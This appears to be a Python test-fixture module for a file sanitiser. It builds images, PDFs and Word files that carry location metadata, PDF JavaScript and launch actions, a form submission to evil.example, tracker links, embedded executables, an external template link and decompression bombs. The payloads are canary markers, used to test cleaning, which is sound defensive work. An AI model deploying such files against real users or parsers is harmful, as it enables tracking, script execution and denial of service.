"""Builders of files nobody wants: each function returns the bytes of one file.

Everything that must not survive cleaning says CANARY; everything that must survive says VISIBLE.
"""

import gzip
import io
import struct
import zipfile
import zlib

import pikepdf
import pillow_heif
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String
from PIL import Image, ImageCms
from PIL.PngImagePlugin import PngInfo

pillow_heif.register_heif_opener()

RED, BLUE = (255, 0, 0), (0, 0, 255)
HTML = b"<!DOCTYPE html><html><body><script>alert('CANARY')</script></body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>CANARY</script></svg>'
PLACE = 34.5


# --- pictures


def two_halves(mode: str = "RGB") -> Image.Image:
    """A picture 40 × 20, its left half red, its right half blue; with orientation 6 red is on top."""
    image = Image.new("RGB", (40, 20), RED)
    image.paste(BLUE, (20, 0, 40, 20))
    return image.convert(mode)


def gps_exif(orientation: int = 1) -> bytes:
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010E] = "CANARY"
    exif[0x013B] = "CANARY Taro"
    exif.get_ifd(0x8825).update({1: "N", 2: (37.0, 23.0, PLACE), 3: "E", 4: (140.0, 23.0, PLACE)})
    exif.get_ifd(0x8769).update({0x9286: b"CANARY comment"})
    return exif.tobytes()


XMP = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF>CANARY exif:GPSLatitude="37,23.5N"</rdf:RDF></x:xmpmeta>'


def picture(fmt: str, image: Image.Image | None = None, **options) -> bytes:
    output = io.BytesIO()
    (image or two_halves()).save(output, fmt, **options)
    return output.getvalue()


def picture_with_place(fmt: str, orientation: int = 6) -> bytes:
    """A picture as a telephone makes it: place, author, comment and XMP, lying on its side."""
    options = {"exif": gps_exif(orientation)}
    if fmt == "PNG":
        notes = PngInfo()
        notes.add_text("Author", "CANARY")
        notes.add_text("Comment", "CANARY " * 100, zip=True)
        notes.add_itxt("XML:com.adobe.xmp", XMP.decode())
        return picture(fmt, pnginfo=notes, **options)
    if fmt == "JPEG":
        return picture(fmt, comment=b"CANARY", xmp=XMP, quality=95, subsampling=0, **options)
    if fmt == "WEBP":
        return picture(fmt, xmp=XMP, quality=95, **options)
    return picture(fmt, xmp=XMP, quality=95, **options)


def swapped_profile() -> bytes:
    """A colour profile in which red and blue have changed places."""
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    return profile.replace(b"rXYZ", b"tmp_", 1).replace(b"bXYZ", b"rXYZ", 1).replace(b"tmp_", b"bXYZ", 1)


def noisy_photo(size: tuple[int, int] = (400, 300)) -> Image.Image:
    return Image.merge("RGB", [Image.effect_noise(size, 90) for _channel in "rgb"])


def png_bomb(side: int = 11_000) -> bytes:
    """121 megapixels of nothing in 15 KB."""
    return picture("PNG", Image.new("1", (side, side)))


def png_chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def png_with_chunk(name: bytes, data: bytes) -> bytes:
    png = picture("PNG")
    return png[:33] + png_chunk(name, data) + png[33:]


def png_claiming(width: int, height: int) -> bytes:
    png = bytearray(picture("PNG"))
    png[16:24] = struct.pack(">II", width, height)
    png[29:33] = struct.pack(">I", zlib.crc32(bytes(png[12:29])))
    return bytes(png)


def jpeg_claiming(width: int, height: int) -> bytes:
    jpeg = bytearray(picture("JPEG"))
    at = jpeg.index(b"\xff\xc0")
    jpeg[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(jpeg)


def jpeg_of_many_scans(count: int = 5_000) -> bytes:
    jpeg = picture("JPEG", progressive=True)
    scan = jpeg.rindex(b"\xff\xda")
    return jpeg[:scan] + jpeg[scan:-2] * count + b"\xff\xd9"


def webp_claiming(width: int, height: int) -> bytes:
    body = b"VP8X" + struct.pack("<I", 10) + b"\x02\x00\x00\x00" + (width - 1).to_bytes(3, "little")
    body += (height - 1).to_bytes(3, "little") + picture("WEBP", lossless=False)[12:]
    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body


def heic_claiming(width: int, height: int) -> bytes:
    heic = bytearray(picture("HEIF"))
    at = heic.index(b"ispe")
    heic[at + 8 : at + 16] = struct.pack(">II", width, height)
    return bytes(heic)


def animation(fmt: str) -> bytes:
    frames = [Image.new("RGB", (30, 30), BLUE), Image.new("RGB", (30, 30), (0, 255, 0))]
    return picture(fmt, Image.new("RGB", (30, 30), RED), save_all=True, append_images=frames, duration=50)


def multi_picture_jpeg() -> bytes:
    """Two pictures in one JPEG, as telephones write them."""
    return picture("MPO", save_all=True, append_images=[Image.new("RGB", (40, 20), (0, 255, 0))])


# --- other files


def zip_file(**members: bytes) -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in (members or {"evil.html": HTML}).items():
            archive.writestr(name, data)
    return output.getvalue()


def ole_file(stream_name: str = "") -> bytes:
    return bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504) + stream_name.encode("utf-16-le") + bytes(512)


def iso_media(brand: bytes) -> bytes:
    return b"\x00\x00\x00\x18ftyp" + brand + b"\x00\x00\x02\x00isommp42" + b"\x00\x00\x00\x08mdat" * 40


def svgz() -> bytes:
    return gzip.compress(SVG)


# --- PDF


JS = {"S": Name.JavaScript, "JS": String("app.alert('CANARY')")}


def pdf(change=None, *, pages: int = 1, **save_options) -> bytes:
    """A small document whose pages say VISIBLE, after `change(document)` did its worst."""
    document = Pdf.new()
    for _page in range(pages):
        page = document.add_blank_page(page_size=(200, 200))
        page.Contents = document.make_stream(b"BT /F1 12 Tf 10 10 Td (VISIBLE) Tj ET")
        page.Resources = Dictionary(Font=Dictionary(F1=font(document)))
    if change:
        change(document)
    output = io.BytesIO()
    document.save(output, **save_options)
    return output.getvalue()


def font(document: Pdf):
    return document.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))


def action(**entries) -> Dictionary:
    return Dictionary(Type=Name.Action, **entries)


def annotate(document: Pdf, **entries) -> None:
    annotation = Dictionary(Type=Name.Annot, Rect=[0, 0, 50, 50], **{"Subtype": Name.Link, **entries})
    page = document.pages[0].obj
    page.Annots = Array([*page.get("/Annots", []), document.make_indirect(annotation)])


def link_pdf(**entries) -> bytes:
    return pdf(lambda document: annotate(document, A=action(**entries)))


def file_specification(document: Pdf) -> Dictionary:
    attached = document.make_stream(b"MZ CANARY program", {"/Type": Name.EmbeddedFile})
    return document.make_indirect(
        Dictionary(Type=Name.Filespec, F="CANARY.exe", UF="CANARY.exe", EF=Dictionary(F=attached))
    )


def open_action(document: Pdf) -> None:
    document.Root.OpenAction = document.make_indirect(action(**JS))


def open_action_launch(document: Pdf) -> None:
    document.Root.OpenAction = action(S=Name.Launch, Win=Dictionary(F="CANARY.exe"), F="CANARY.exe")


def script_as_stream(document: Pdf) -> None:
    script = document.make_stream(b"app.alert('CANARY')")
    document.Root.OpenAction = action(S=Name.JavaScript, JS=script)


def script_name_tree(document: Pdf) -> None:
    leaf = document.make_indirect(Dictionary(Names=[String("CANARY"), action(**JS)], Limits=["CANARY", "CANARY"]))
    middle = document.make_indirect(Dictionary(Kids=[leaf]))
    destination = Dictionary(Names=[String("place"), Array([document.pages[0].obj, Name.Fit])])
    document.Root.Names = Dictionary(JavaScript=Dictionary(Kids=[middle]), Dests=destination)


def catalog_events(document: Pdf) -> None:
    document.Root.AA = Dictionary(WC=action(**JS), WS=action(**JS), Strange=action(**JS))


def page_events(document: Pdf) -> None:
    document.pages[0].obj.AA = Dictionary(O=action(S=Name.URI, URI="https://tracker.example/CANARY"), C=action(**JS))


def annotation_events(document: Pdf) -> None:
    annotate(document, AA=Dictionary(E=action(**JS)), PA=action(S=Name.URI, URI="javascript:CANARY"))


def field_events(document: Pdf) -> None:
    field = document.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T="VISIBLE-field",
            Rect=[0, 0, 50, 20],
            AA=Dictionary(K=action(**JS), F=action(**JS)),
            A=action(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F="https://evil.example/CANARY")),
        )
    )
    hidden = document.make_indirect(Dictionary(FT=Name.Tx, T="calculated", AA=Dictionary(C=action(**JS))))
    document.pages[0].obj.Annots = Array([field])
    document.Root.AcroForm = Dictionary(
        Fields=[field, hidden],
        CO=[hidden],
        XFA=Array([String("template"), document.make_stream(b"<xdp:xdp>CANARY</xdp:xdp>")]),
    )


def outline_script(document: Pdf) -> None:
    item = document.make_indirect(Dictionary(Title="VISIBLE bookmark", A=action(**JS)))
    outlines = document.make_indirect(Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1))
    item.Parent = outlines
    document.Root.Outlines = outlines


def chained_actions(document: Pdf) -> None:
    chain = action(**JS)
    for _link in range(60):
        chain = action(S=Name.URI, URI="https://VISIBLE.example/", Next=Array([chain]))
    annotate(document, A=chain)


def script_in_a_corner(document: Pdf) -> None:
    corner = document.make_indirect(Array([Dictionary(Deep=Array([Array([Dictionary(Further=action(**JS))])]))]))
    document.pages[0].obj["/Corner"] = corner


def action_without_type(document: Pdf) -> None:
    annotate(document, A=Dictionary(S=Name.Hide, T="x"), Contents="VISIBLE")


def attachment_tree(document: Pdf) -> None:
    specification = file_specification(document)
    document.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=[String("CANARY.exe"), specification]))
    document.Root.AF = Array([specification])
    document.pages[0].obj.AF = Array([specification])


def attachment_annotation(document: Pdf) -> None:
    annotate(document, Subtype=Name.FileAttachment, FS=file_specification(document), Contents="CANARY")


def rich_media(document: Pdf) -> None:
    assets = Dictionary(Assets=Dictionary(Names=[String("CANARY.swf"), file_specification(document)]))
    annotate(document, Subtype=Name.RichMedia, RichMediaContent=assets, RichMediaSettings=Dictionary())


def media_annotations(document: Pdf) -> None:
    sound = document.make_stream(b"CANARY", {"/Type": Name.Sound, "/R": 8000})
    annotate(document, Subtype=Name.Sound, Sound=sound)
    annotate(document, Subtype=Name.Movie, Movie=Dictionary(F="CANARY.avi"))
    rendition = Dictionary(Type=Name.Rendition, S=Name.MR, N="CANARY")
    annotate(document, Subtype=Name.Screen, A=action(S=Name.Rendition, R=rendition, OP=0))
    annotate(document, Subtype=Name("/3D"), **{"3DD": document.make_stream(b"CANARY")})


def origin_notes(document: Pdf) -> None:
    document.docinfo["/Author"] = "CANARY Taro"
    document.docinfo["/Title"] = "CANARY"
    document.docinfo["/Secret"] = "CANARY"
    document.Root.Metadata = document.make_stream(XMP, {"/Type": Name.Metadata, "/Subtype": Name.XML})
    page = document.pages[0].obj
    page.Metadata = document.make_stream(XMP)
    page.PieceInfo = Dictionary(Illustrator=Dictionary(Private=Dictionary(Data="CANARY")), LastModified="D:20260101")
    page.LastModified = "D:20260101 CANARY"
    page["/PTEX.FileName"] = String("/home/CANARY/flyer.pdf")
    page.Thumb = document.make_stream(b"CANARY")


def comment_author(document: Pdf) -> None:
    annotate(document, Subtype=Name.Text, T="CANARY Taro", M="D:20260101 CANARY", Contents="VISIBLE note")


def photo_inside(document: Pdf, *, packed: bool = False) -> None:
    data = picture_with_place("JPEG")
    filters = Name.DCTDecode
    if packed:
        data, filters = zlib.compress(data), Array([Name.FlateDecode, Name.DCTDecode])
    image = Stream(document, data)
    image.update(
        {
            "/Type": Name.XObject,
            "/Subtype": Name.Image,
            "/Width": 40,
            "/Height": 20,
            "/ColorSpace": Name.DeviceRGB,
            "/BitsPerComponent": 8,
            "/Filter": filters,
        }
    )
    document.pages[0].obj.Resources.XObject = Dictionary(Im0=image)


def jpeg2000_inside(document: Pdf) -> None:
    note = b"CANARY GPS"
    data = picture("JPEG2000") + struct.pack(">I", len(note) + 24) + b"uuid" + bytes(16) + note
    image = Stream(document, data)
    image.update(
        {"/Type": Name.XObject, "/Subtype": Name.Image, "/Width": 40, "/Height": 20, "/Filter": Name.JPXDecode}
    )
    document.pages[0].obj.Resources.XObject = Dictionary(Im0=image)


def outside_stream(document: Pdf) -> None:
    form = document.make_stream(b"", {"/Type": Name.XObject, "/Subtype": Name.Form, "/BBox": Array([0, 0, 1, 1])})
    form.F = String("//evil.example/CANARY")
    form.Ref = Dictionary(F=String("CANARY.pdf"), Page=0)
    script = document.make_stream(b"CANARY showpage", {"/Type": Name.XObject, "/Subtype": Name.PS})
    document.pages[0].obj.Resources.XObject = Dictionary(Fm0=form, Ps0=script)


def signature(document: Pdf) -> None:
    value = document.make_indirect(
        Dictionary(Type=Name.Sig, Name="CANARY Taro", Contents=b"CANARY", ByteRange=[0, 1, 2, 3], Location="CANARY")
    )
    field = Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Sig, T="sig", Rect=[0, 0, 0, 0], V=value)
    field = document.make_indirect(field)
    document.pages[0].obj.Annots = Array([field])
    document.Root.AcroForm = Dictionary(Fields=[field], SigFlags=3)
    document.Root.Perms = Dictionary(DocMDP=value)


def unusual_names(document: Pdf) -> None:
    """Harmless fonts, states and bookmarks whose free names look like keys of actions."""
    page = document.pages[0].obj
    page.Resources.Font = Dictionary(A=font(document), AA=font(document), JS=font(document), AF=font(document))
    page.Resources.ExtGState = Dictionary(A=Dictionary(ca=0.5), AA=Dictionary(ca=0.5, D=[[], 0]))
    page.Resources.ColorSpace = Dictionary(AF=Array([Name.ICCBased, document.make_stream(b"x", {"/N": 3})]))
    element = document.make_indirect(
        Dictionary(Type=Name.StructElem, S=Name.P, A=Dictionary(O=Name.Layout, WritingMode=Name.LrTb))
    )
    document.Root.StructTreeRoot = Dictionary(Type=Name.StructTreeRoot, K=element)


def portfolio(document: Pdf) -> None:
    attachment_tree(document)
    document.Root.Collection = Dictionary(Type=Name.Collection)


def dynamic_form(document: Pdf) -> None:
    document.Root.NeedsRendering = True
    document.Root.AcroForm = Dictionary(XFA=document.make_stream(b"<xdp/>"), Fields=[])


def encrypted_pdf(user: str) -> bytes:
    return pdf(encryption=pikepdf.Encryption(owner="owner", user=user))


def pdf_with_history() -> bytes:
    """An earlier state with a secret in it, and an update that takes the secret away."""
    first = pdf(
        lambda document: document.Root.__setitem__("/Lang", document.make_stream(b"CANARY")), compress_streams=False
    )
    previous = first[first.rindex(b"startxref") :].split()[1].decode()
    with pikepdf.open(io.BytesIO(first)) as opened:
        number = opened.Root.Lang.objgen[0]
        size = int(opened.trailer.Size)
        root = opened.Root.objgen[0]
    replaced = f"{number} 0 obj\n<< >>\nendobj\n".encode()
    table = (
        f"xref\n{number} 1\n{len(first):010d} 00000 n \ntrailer\n<< /Size {size} /Root {root} 0 R /Prev {previous} >>\n"
    )
    return first + replaced + f"{table}startxref\n{len(first) + len(replaced)}\n%%EOF\n".encode()


def raw_pdf(*objects: bytes, trailer: bytes = b"/Root 1 0 R") -> bytes:
    """A document written by hand, object 1 first; for what no library would write."""
    parts, offsets = [b"%PDF-1.7\n"], []
    at = len(parts[0])
    for number, data in enumerate(objects, 1):
        offsets.append(at)
        parts.append(b"%d 0 obj\n%s\nendobj\n" % (number, data))
        at += len(parts[-1])
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    count = len(objects) + 1
    parts.append(b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<< /Size %d %s >>\n" % (count, table, count, trailer))
    parts.append(b"startxref\n%d\n%%%%EOF\n" % at)
    return b"".join(parts)


_PAGES = (b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>")


def pdf_with_escaped_names() -> bytes:
    script = b"<< /S /J#61v#61Script /J#53 (app.alert\\('CANARY'\\)) >>"
    return raw_pdf(b"<< /Type /Catalog /Pages 2 0 R /Open#41ction 4 0 R >>", *_PAGES, script)


def pdf_with_padded_structure(megabytes: int) -> bytes:
    """A sound document whose page tree lies packed in a stream that unfolds to this many megabytes of blanks."""
    packer = zlib.compressobj(1)
    packed = packer.compress(b"4 0 << /Type /Pages /Kids [2 0 R] /Count 1 >>")
    packed += b"".join(packer.compress(b" " * 1_000_000) for _megabyte in range(megabytes)) + packer.flush()
    bomb = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
    table = b"<< /Type /XRef /Size 6 /W [1 4 1] /Root 1 0 R /Length %d >>\nstream\n%s\nendstream"
    page = b"<< /Type /Page /Parent 4 0 R /MediaBox [0 0 9 9] >>"
    body, offsets = b"%PDF-1.7\n", []
    for number, data in enumerate([b"<< /Type /Catalog /Pages 4 0 R >>", page, bomb % (len(packed), packed)], 1):
        offsets.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, data)
    rows = struct.pack(">BIB", 0, 0, 255) + b"".join(struct.pack(">BIB", 1, offset, 0) for offset in offsets)
    rows += struct.pack(">BIB", 2, 3, 0) + struct.pack(">BIB", 1, len(body), 0)
    return body + b"5 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (table % (len(rows), rows), len(body))


def pdf_with_looping_pages() -> bytes:
    return raw_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>")


def pdf_nested(depth: int) -> bytes:
    return raw_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", *_PAGES, b"[" * depth + b"]" * depth)


def pdf_of_many_objects(count: int) -> bytes:
    return raw_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", *_PAGES, *[b"0"] * count)


# --- Office


WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Override PartName="/word/document.xml" ContentType="{main}"/>'
    '<Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/>'
    "</Types>"
)
_RELATIONSHIPS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{items}</Relationships>'
)
_RELATION = '<Relationship Id="r{number}" Type="http://schemas.openxmlformats.org/x/{kind}" Target="{target}"{mode}/>'
_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def relationships(*items: tuple[str, str, bool]) -> bytes:
    """Relationships from (kind, target, whether it lies outside)."""
    rows = (
        _RELATION.format(number=number, kind=kind, target=target, mode=' TargetMode="External"' if outside else "")
        for number, (kind, target, outside) in enumerate(items)
    )
    return _RELATIONSHIPS.format(items="".join(rows)).encode()


def word_document(body: str = "<w:p><w:r><w:t>VISIBLE</w:t></w:r></w:p>") -> bytes:
    return f'<?xml version="1.0"?><w:document xmlns:w="{_WORD}"><w:body>{body}</w:body></w:document>'.encode()


def docx(*, main: str = WORD_MAIN, **changes: bytes) -> bytes:
    """A Word file that tells much about its author; `changes` adds or replaces parts by name."""
    parts = {
        "[Content_Types].xml": _TYPES.format(main=main).encode(),
        "_rels/.rels": relationships(
            ("officeDocument", "word/document.xml", False), ("core-properties", "docProps/core.xml", False)
        ),
        "docProps/core.xml": b"<c:coreProperties xmlns:c='x'><c:creator>CANARY Taro</c:creator></c:coreProperties>",
        "docProps/app.xml": b"<Properties><Company>CANARY</Company></Properties>",
        "word/document.xml": word_document(),
        "word/settings.xml": (
            f'<w:settings xmlns:w="{_WORD}" xmlns:r="y"><w:attachedTemplate r:id="r0"/><w:zoom/></w:settings>'
        ).encode(),
        "word/_rels/settings.xml.rels": relationships(("attachedTemplate", "file:///C:/Users/CANARY/a.dotm", True)),
        "word/_rels/document.xml.rels": relationships(
            ("hyperlink", "https://VISIBLE.example/", True),
            ("hyperlink", "file:///C:/Users/CANARY/", True),
            ("image", "https://tracker.example/CANARY.png", True),
            ("oleObject", "CANARY.xlsx", True),
            ("image", "media/photo.jpeg", False),
        ),
        "word/media/photo.jpeg": picture_with_place("JPEG"),
        "word/media/drawing.png": picture_with_place("PNG"),
    }
    return zip_file(**{**parts, **changes})
